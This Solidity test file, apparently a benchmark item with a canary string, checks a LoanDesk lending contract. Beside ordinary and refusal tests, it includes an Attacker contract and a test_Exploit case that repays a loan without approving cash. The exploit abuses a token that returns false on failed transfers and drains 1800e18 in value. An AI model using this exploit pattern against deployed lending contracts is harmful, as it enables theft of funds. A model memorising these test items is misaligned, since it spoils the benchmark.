// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./LoanDesk.sol";

// assay-canary-84a09c0f-7320-4973-b6b6-abb5cf8818d7

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Answers false where others revert, as the standard allows.
contract QuietToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || balanceOf[from] < amount) return false;
        allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Customer {
    LoanDesk internal desk;
    QuietToken internal cash;
    QuietToken internal metal;

    constructor(LoanDesk desk_, QuietToken cash_, QuietToken metal_) {
        (desk, cash, metal) = (desk_, cash_, metal_);
    }

    function open(uint128 amount) public returns (uint256) {
        metal.approve(address(desk), amount);
        return desk.open(IERC20(address(metal)), amount);
    }

    function repay(uint256 id) public {
        cash.approve(address(desk), desk.due(id));
        desk.repay(id);
    }

    function buy(uint256 id) public {
        cash.approve(address(desk), type(uint256).max);
        desk.buy(id);
    }
}

/// Repays without an approval.
contract Attacker is Customer {
    constructor(LoanDesk desk_, QuietToken cash_, QuietToken metal_) Customer(desk_, cash_, metal_) {}

    function run() external {
        desk.repay(open(300e18));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant MARKET_PRICE = 10; // cash for a unit of metal

    QuietToken private cash;
    QuietToken private metal;
    LoanDesk private desk;
    Customer private ana;
    Customer private ben;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        cash = new QuietToken();
        metal = new QuietToken();
        desk = new LoanDesk(IERC20(address(cash)), address(this));
        desk.setRate(IERC20(address(metal)), 6e18);
        cash.mint(address(this), 3000e18);
        cash.approve(address(desk), 3000e18);
        require(desk.fund(3000e18), "funded");
        ana = new Customer(desk, cash, metal);
        ben = new Customer(desk, cash, metal);
        mallory = new Attacker(desk, cash, metal);
        metal.mint(address(ana), 150e18);
        cash.mint(address(ana), 50e18);
        cash.mint(address(ben), 1000e18);
        metal.mint(address(mallory), 300e18);
        cash.mint(address(mallory), 10e18);
    }

    function test_Regular() public {
        uint256 id = ana.open(100e18);
        require(cash.balanceOf(address(ana)) == 650e18 && metal.balanceOf(address(desk)) == 100e18, "loan");
        vm.warp(block.timestamp + 4 days + 1 hours);
        ana.repay(id);
        require(cash.balanceOf(address(ana)) == 47e18, "five days of interest");
        require(metal.balanceOf(address(ana)) == 150e18, "collateral back");

        id = ana.open(100e18);
        vm.warp(block.timestamp + 45 days + 1);
        ben.buy(id);
        require(cash.balanceOf(address(ben)) == 1000e18 - 658.98e18, "due and a twentieth");
        require(metal.balanceOf(address(ben)) == 100e18, "bought");
        require(!desk.fund(1e18), "no approval left");
        desk.draw(3000e18);
        require(cash.balanceOf(address(this)) == 3000e18, "drawn");
        desk.transferOwnership(address(0xBE9));
        vm.startPrank(address(0xBE9));
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(desk.owner() == address(0), "renounced");
    }

    // What the desk has: cash, and metal at its market price.
    function worth() public view returns (uint256) {
        return cash.balanceOf(address(desk)) + metal.balanceOf(address(desk)) * MARKET_PRICE;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function foreign() internal {
        vm.prank(address(ana));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(ana)));
    }

    /// Rates and the cash are the owner's.
    function test_RefusesStrangers() public {
        foreign();
        desk.setRate(IERC20(address(metal)), 1);
        foreign();
        desk.fund(1);
        foreign();
        desk.draw(1);
        foreign();
        desk.transferOwnership(address(ana));
        foreign();
        desk.acceptOwnership();
        foreign();
        desk.renounceOwnership();
        vm.expectRevert(LoanDesk.BadToken.selector);
        desk.setRate(IERC20(address(cash)), 1);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(cash)));
        desk.draw(4000e18);
    }

    /// Loans on nothing, on other things, and those that are closed.
    function test_RefusesLoans() public {
        vm.expectRevert(LoanDesk.BadToken.selector);
        desk.open(IERC20(address(this)), 1);
        vm.expectRevert(LoanDesk.BadAmount.selector);
        desk.open(IERC20(address(metal)), 0);
        vm.expectRevert(LoanDesk.BadAmount.selector);
        desk.open(IERC20(address(metal)), type(uint128).max);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(metal)));
        desk.open(IERC20(address(metal)), 1e18);
        uint256 id = ana.open(100e18);
        refuses(address(ben), LoanDesk.NotBorrower.selector);
        desk.repay(id);
        refuses(address(ben), LoanDesk.Early.selector);
        desk.buy(id);
        cash.mint(address(ana), 1000e18);
        ana.repay(id);
        refuses(address(ana), LoanDesk.NotOpen.selector);
        desk.repay(id);
        vm.warp(block.timestamp + 46 days);
        refuses(address(ben), LoanDesk.NotOpen.selector);
        desk.buy(id);
    }

    /// Loans whose term is over, and borrowers and buyers without the cash.
    function test_RefusesPayments() public {
        uint256 id = ana.open(100e18);
        vm.prank(address(ana));
        cash.transfer(address(ben), 650e18);
        refuses(address(ana), LoanDesk.LowCash.selector);
        desk.repay(id);
        vm.warp(block.timestamp + 45 days);
        refuses(address(ben), LoanDesk.Early.selector);
        desk.buy(id);
        vm.warp(block.timestamp + 1);
        cash.mint(address(ana), 1000e18);
        refuses(address(ana), LoanDesk.Late.selector);
        desk.repay(id);
        vm.prank(address(ben));
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(cash)));
        desk.buy(id);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = worth();
        exploit();
        require(before - worth() == 1800e18, "nothing lost");
        require(metal.balanceOf(address(mallory)) == 300e18, "collateral back");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
